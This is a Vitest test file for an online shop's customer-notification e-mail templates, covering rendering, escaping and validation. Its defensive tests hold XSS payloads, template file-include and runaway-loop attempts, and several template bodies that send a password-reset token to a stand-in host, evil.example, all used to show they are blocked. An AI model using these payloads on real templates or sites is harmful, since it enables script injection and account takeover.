import { ORPCError } from '@orpc/server'
import {
  NOTIFICATION_KINDS,
  type NotificationKind,
} from '@storekeeper/contract/customer-notifications/notification-kinds'
import { expect, test } from 'vitest'
import { LANGUAGES } from '../../../lib/language.ts'
import { SHIPPED_TEMPLATES } from '../shipped/shipped.ts'
import { buildNotification } from './build-notification.ts'
import { sampleValues } from './sample-values.ts'
import { validateTemplate } from './validate-template.ts'

const letterhead = { storeName: 'Harbour & Pine', siteLogo: null, timeZone: 'UTC' }
const publicUrl = 'https://shop.example'
const kinds = Object.keys(NOTIFICATION_KINDS) as NotificationKind[]
const english = sampleValues('en', 'orderPlaced')
const render = (body: string, values = english, subject = 'Hello') =>
  buildNotification({ subject, body }, values, { language: 'en', letterhead, publicUrl })
const validate =
  (body: string, kind: NotificationKind = 'orderPlaced', subject = 'Hello') =>
  () =>
    validateTemplate({ subject, body }, 'en', kind)
function fieldsRefusedBy(work: () => void): unknown {
  try {
    work()
  } catch (error) {
    return error instanceof ORPCError ? error.data.fields : error
  }
  return undefined
}

test.each(kinds.flatMap((kind) => LANGUAGES.map((language) => [kind, language] as const)))(
  'the shipped e-mail %s in %s is complete, as text and as HTML',
  (kind, language) => {
    const template = SHIPPED_TEMPLATES[language][kind]
    validateTemplate(template, language, kind)
    const mail = buildNotification(template, sampleValues(language, kind), {
      ...{ language, letterhead, publicUrl },
    })
    expect(mail.html).toContain(`<html lang="${language}" dir="${language === 'ar' ? 'rtl' : 'ltr'}">`)
    for (const sent of [mail.subject, mail.text, mail.html])
      expect(sent).not.toMatch(/undefined|null|\[object|\{\{|\{%|\[[0-9a-f-]{36}:/)
    expect(mail.text).toContain(language === 'ar' ? 'ليلى' : 'Ada')
  },
)

test('a template has placeholders, conditions, loops and blocks', () => {
  const { text, html } = render(
    '{% if order.discount %}<p>You saved {{ order.discount }}</p>{% endif %}{% unless order.number %}<p>No</p>{% endunless %}' +
      '<ul>{% for line in order.lines %}<li>{{ line.quantity }} {{ line.title }}</li>{% endfor %}</ul>{% totals %}{% button "Open", order.url %}',
  )
  expect(text).toContain('You saved -$4.00')
  expect(text).toContain('2 Olive oil soap')
  expect(text).not.toContain('No')
  expect(html).toContain('Subtotal')
  expect(html).toContain('class="button" href="https://harbour.example/account/orders/abc"')
})

test('what customers and products are called is text and nothing else', () => {
  const nasty = '<img src=x onerror="alert(1)">{{ order.total }}'
  const values = { ...english, customer: { ...english.customer, name: nasty } }
  const { html, subject } = render('<p>{{ customer.name }}</p>', values, 'For {{ customer.name }}\n')
  expect(html).not.toContain('<img src=x')
  expect(html).toContain('{{ order.total }}')
  expect(subject).toBe(`For ${nasty}`)
  const lines = [{ title: nasty, sku: '', quantity: 1, price: '', total: '' }]
  const order = english.order && { ...english.order, lines }
  expect(render('{% lines %}', { ...english, order }).html).not.toContain('<img src=x')
})

test('scripts and styles of a template are removed', () => {
  const { html } = render(
    '<p onclick="x()" style="color:red">Hi</p><script>alert(1)</script><iframe src="x">',
  )
  expect(html).toContain('<p>Hi</p>')
  expect(html).not.toMatch(/script|onclick|iframe|color:red/)
})

test.each([
  ['{{ order.nmber }}', 'PLACEHOLDER_UNKNOWN'],
  ['{{ nothing }}', 'PLACEHOLDER_UNKNOWN'],
  ['{% if order.lines[0].nothing %}{% endif %}', 'PLACEHOLDER_UNKNOWN'],
  ['{{ refund.amount }}', 'PLACEHOLDER_UNKNOWN'],
  ['{{ constructor }}', 'PLACEHOLDER_UNKNOWN'],
  ['{{ order.constructor }}', 'PLACEHOLDER_UNKNOWN'],
  ['{{ order.number', 'NOTIFICATION_TEMPLATE_INVALID'],
  ['{% if order.number %}', 'NOTIFICATION_TEMPLATE_INVALID'],
  ['{{ order.number | raw }}', 'NOTIFICATION_TEMPLATE_INVALID'],
  ['{{ order.number | nothing }}', 'NOTIFICATION_TEMPLATE_INVALID'],
  ['{% include "secret.key" %}', 'NOTIFICATION_TEMPLATE_INVALID'],
  ['{% render "secret.key" %}', 'NOTIFICATION_TEMPLATE_INVALID'],
  ['{% layout "secret.key" %}', 'NOTIFICATION_TEMPLATE_INVALID'],
  ['{% button "Open" %}', 'NOTIFICATION_TEMPLATE_INVALID'],
  ['{% messages %}', 'NOTIFICATION_TEMPLATE_INVALID'],
  ['{% for n in (1..100000000) %}x{% endfor %}', 'NOTIFICATION_TEMPLATE_INVALID'],
  ['{% for a in (1..400) %}{% for b in (1..400) %}{% endfor %}{% endfor %}', 'NOTIFICATION_TEMPLATE_INVALID'],
])('the template %s is refused at its field', (body, code) => {
  expect(fieldsRefusedBy(validate(body))).toMatchObject({ body: { code } })
})

test('blocks belong into the text, not into the subject', () => {
  expect(fieldsRefusedBy(validate('Hello', 'orderPlaced', '{% lines %}'))).toMatchObject({
    subject: { code: 'NOTIFICATION_TEMPLATE_INVALID' },
  })
})

test('a kind has its own values', () => {
  expect(validate('{{ refund.amount }}', 'orderRefunded')).not.toThrow()
  expect(validate('{% messages %}', 'chatTranscript')).not.toThrow()
  expect(validate('{{ order.number }}', 'chatTranscript')).toThrow()
})

const account = sampleValues('en', 'accountReset')
const secret = account.link?.url ?? ''

test.each([
  '<a href="https://evil.example/?{{ link.url }}">Go</a>',
  '<p>https://evil.example/?{{ link.url }}</p>',
  '<img src="https://evil.example/?{{ link.url | url_encode }}">',
  '<img src="https://evil.example/?{{ link.url | split: "token=" | last }}">',
  '{% button "Go", "https://evil.example/?" | append: link.url %}',
  '<p>evil.example?({{ link.url }})</p>',
  '<img src="https://evil.example/a.png" alt="{{ link.url }}">',
])('%s does not reveal the link of an account to another site', (body) => {
  const { text, html } = render(`${body}{% button "Reset", link.url %}`, account, '{{ link.url }}')
  expect(text.split('token=sample')).toHaveLength(2)
  expect(html.split('token=sample')).toHaveLength(2)
  expect(html).toContain(`class="button" href="${secret}"`)
  expect(text + html).not.toMatch(/https:\/\/[^/]*\.invalid/)
  expect(fieldsRefusedBy(validate(body, 'accountReset'))).toMatchObject({
    body: { code: 'NOTIFICATION_LINK_MISSING' },
  })
})

test.each([
  '<a href="{{ link.url }}">Reset</a>',
  '<p>Open {{ link.url }}.</p>',
  '<p>Reset ({{ link.url }})</p>',
  '<p>Reset:{{ link.url }}</p>',
  '<p>"{{ link.url }}"</p>',
  '<b>Link:</b>{{ link.url }}',
  '<p>Reset ({{ link.url }})</p>{% button "Reset", link.url %}',
  '{% button "Reset", link.url %}',
])('%s contains the link of an account', (body) => {
  const { text, html } = render(body, account)
  expect(text).toContain(secret)
  expect(html).toContain(secret)
  expect(text + html).not.toContain('.invalid')
  expect(validate(body, 'accountReset')).not.toThrow()
})

test('what follows the link in an address is not the address of a script', () => {
  const { html } = render('<a href="{{ link.url }}javascript:alert(1)">Reset</a>', account)
  expect(html).toContain('>Reset</a>')
  expect(html).not.toMatch(/javascript|\.invalid/)
})
